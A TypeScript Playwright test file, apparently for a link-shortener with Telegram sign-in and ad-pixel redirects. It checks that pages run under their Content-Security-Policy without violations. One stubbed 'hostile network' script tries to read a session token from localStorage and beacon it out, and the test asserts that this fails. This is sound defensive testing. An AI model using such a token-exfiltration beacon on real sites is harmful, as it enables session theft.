/**
 * The mini-app and the pixel page still work in real Chromium under their Content-Security-Policy,
 * and the browser reports no violation of it.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { sign } from "@telegram-apps/init-data-node";
import type { Browser } from "playwright-core";
import { FAKE_BOT_TOKEN, FakeBotApi } from "../helpers/fake-bot-api";
import { openSignedIn, withBrowserApp, type Server } from "../helpers/browser";
import { watchViolations } from "../helpers/csp";

let browser: Browser;
let s: Server;
const fake = new FakeBotApi();
beforeAll(() => fake.start());
withBrowserApp(
  (app) => ({ server: s, browser } = app),
  () => ({ env: { BOT_TOKEN: FAKE_BOT_TOKEN, BOT_API_ROOT: fake.url } }),
);
afterAll(() => fake.stop());

describe("under the Content-Security-Policy", () => {
  test("the mini-app opened by Telegram loads telegram-web-app.js, signs in and navigates without a violation", async () => {
    const context = await browser.newContext({ viewport: { width: 360, height: 740 } });
    try {
      const page = await context.newPage();
      const violations = await watchViolations(page);
      const errors: string[] = [];
      page.on("pageerror", (e) => errors.push(e.message));
      const initData = sign(
        { user: { id: 555001, first_name: "Cleo", username: "cleo_tg" }, query_id: "AAE" },
        FAKE_BOT_TOKEN,
        s.clock.now(),
      );
      const loaded: string[] = [];
      // Telegram's script, stood in for: the real file would come from telegram.org
      await context.route("https://telegram.org/js/telegram-web-app.js*", (route) => {
        loaded.push(route.request().url());
        return route.fulfill({
          contentType: "text/javascript",
          body: `window.Telegram={WebApp:{initData:${JSON.stringify(initData)},colorScheme:"light",themeParams:{},ready(){},expand(){},onEvent(){},offEvent(){},
            BackButton:{show(){},hide(){},onClick(){},offClick(){}},MainButton:{setText(){},show(){},hide(){},enable(){},disable(){},showProgress(){},hideProgress(){},onClick(){},offClick(){}},
            HapticFeedback:{notificationOccurred(){}}}};`,
        });
      });
      await page.goto(`${s.baseUrl}/app/#tgWebAppData=${encodeURIComponent(initData)}&tgWebAppVersion=8.0&tgWebAppPlatform=android`);
      await page.getByRole("navigation", { name: "Sections" }).waitFor();
      expect(loaded).toEqual(["https://telegram.org/js/telegram-web-app.js"]);
      await page.getByRole("link", { name: /Settings/ }).click();
      await page.getByTestId("identities").getByText("@cleo_tg").waitFor();
      expect(violations).toEqual([]);
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test("the dashboard in a browser: links, creating a link, settings, without a violation", async () => {
    const { token } = await s.emailUser("csp@example.com");
    const { page, context, problems } = await openSignedIn(browser, s.baseUrl, token);
    try {
      const violations = await watchViolations(page);
      await page.goto(`${s.baseUrl}/app/links`);
      await page.getByText("No links yet.").waitFor();
      await page.goto(`${s.baseUrl}/app/links/new`);
      await page
        .getByLabel(/Destination URL|URL/)
        .first()
        .fill("https://csp.example/page");
      await page.getByRole("button", { name: "Create link" }).click();
      await page.waitForURL(/\/app\/links\/\d+$/);
      await page.goto(`${s.baseUrl}/app/settings`);
      await page
        .getByRole("heading", { name: /Settings/ })
        .first()
        .waitFor();
      expect(violations).toEqual([]);
      expect(problems).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test("the pixel page loads each network's script, fires its beacons and sends the visitor on, without a violation", async () => {
    const { token } = await s.emailUser("pixels@example.com");
    const req = (method: string, path: string, body?: unknown) =>
      fetch(`${s.baseUrl}${path}`, {
        method,
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        body: body === undefined ? undefined : JSON.stringify(body),
      }).then((r) => r.json() as any);
    const ids: number[] = [];
    for (const p of [
      { name: "fb", type: "facebook", pixelId: "123456789012" },
      { name: "ga", type: "google", pixelId: "G-ABC123XYZ" },
      { name: "tt", type: "tiktok", pixelId: "C4ABCDEF12345678" },
      { name: "ym", type: "yandex", pixelId: "12345678" },
      { name: "vk", type: "vk", pixelId: "VK-RTRG-123456-AbCdE" },
    ])
      ids.push((await req("POST", "/api/pixels", p)).id);
    const link = await req("POST", "/api/links", { url: "https://landing.example/offer", pixelIds: ids });

    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const violations = await watchViolations(page);
      const outside: string[] = [];
      // the networks' files, stood in for; each stub sends the beacon its network would (image or fetch)
      const stubs: Record<string, string> = {
        // and what a hostile network would try: read the dashboard's tokens from the page's origin
        "connect.facebook.net":
          `new Image().src="https://www.facebook.com/tr?id="+fbq.queue[0][1]+"&ev=PageView";` +
          `try{new Image().src="https://www.facebook.com/leak-read?"+encodeURIComponent(String(localStorage.getItem("linkbot.session")))}catch(e){new Image().src="https://www.facebook.com/leak-refused"}`,
        "www.googletagmanager.com": `fetch("https://region1.google-analytics.com/g/collect?tid="+dataLayer[1][1],{method:"POST",mode:"no-cors"});`,
        "analytics.tiktok.com": `fetch("https://analytics.tiktok.com/api/v2/pixel",{method:"POST",mode:"no-cors"});`,
        "mc.yandex.ru": `new Image().src="https://mc.yandex.ru/watch/"+ym.a[0][0];`,
        "vk.com": `window.VK={Retargeting:{Init:function(id){this.id=id},Hit:function(){new Image().src="https://vk.com/rtrg?p="+this.id}}};`,
      };
      await context.route(
        (u) => u.hostname !== "127.0.0.1",
        (route) => {
          const url = new URL(route.request().url());
          outside.push(`${url.hostname}${url.pathname}`);
          if (url.hostname === "landing.example") return route.fulfill({ contentType: "text/html", body: "<h1>Arrived</h1>" });
          const stub = route.request().resourceType() === "script" ? stubs[url.hostname] : undefined;
          return stub ? route.fulfill({ contentType: "text/javascript", body: stub }) : route.fulfill({ status: 204 });
        },
      );
      // the dashboard, on the same origin by default, keeps a token in localStorage
      await page.goto(`${s.baseUrl}/healthz`);
      await page.evaluate(() => localStorage.setItem("linkbot.session", "secret-token"));
      await page.goto(`${s.baseUrl}/${link.code}`);
      await page.waitForURL("https://landing.example/offer", { timeout: 10_000 });
      expect(outside).toContain("www.facebook.com/leak-refused");
      expect(outside).not.toContain("www.facebook.com/leak-read");
      await page.getByRole("heading", { name: "Arrived" }).waitFor();
      expect(outside).toEqual(
        expect.arrayContaining([
          "connect.facebook.net/en_US/fbevents.js",
          "www.facebook.com/tr",
          "www.googletagmanager.com/gtag/js",
          "region1.google-analytics.com/g/collect",
          "analytics.tiktok.com/i18n/pixel/events.js",
          "analytics.tiktok.com/api/v2/pixel",
          "mc.yandex.ru/metrika/tag.js",
          "mc.yandex.ru/watch/12345678",
          "vk.com/js/api/openapi.js",
          "vk.com/rtrg",
          "landing.example/offer",
        ]),
      );
      expect(violations).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test("a pixel page blocks a script from a host its networks do not use (the policy is live)", async () => {
    const { token } = await s.emailUser("pixels2@example.com");
    const auth = { authorization: `Bearer ${token}`, "content-type": "application/json" };
    const px = (await (
      await fetch(`${s.baseUrl}/api/pixels`, {
        method: "POST",
        headers: auth,
        body: JSON.stringify({ name: "ym", type: "yandex", pixelId: "12345678" }),
      })
    ).json()) as any;
    const link = (await (
      await fetch(`${s.baseUrl}/api/links`, {
        method: "POST",
        headers: auth,
        body: JSON.stringify({ url: "https://landing.example/", pixelIds: [px.id] }),
      })
    ).json()) as any;
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const violations = await watchViolations(page);
      await context.route(
        (u) => u.hostname !== "127.0.0.1",
        (route) => route.fulfill({ contentType: "text/html", body: "<h1>Arrived</h1>" }),
      );
      await page.goto(`${s.baseUrl}/${link.code}`);
      await page.evaluate(() => {
        const el = document.createElement("script");
        el.src = "https://connect.facebook.net/en_US/fbevents.js";
        document.head.appendChild(el);
      });
      await page.waitForURL("https://landing.example/", { timeout: 10_000 });
      expect(violations.some((v) => v.includes("connect.facebook.net"))).toBe(true);
    } finally {
      await context.close();
    }
  });
});
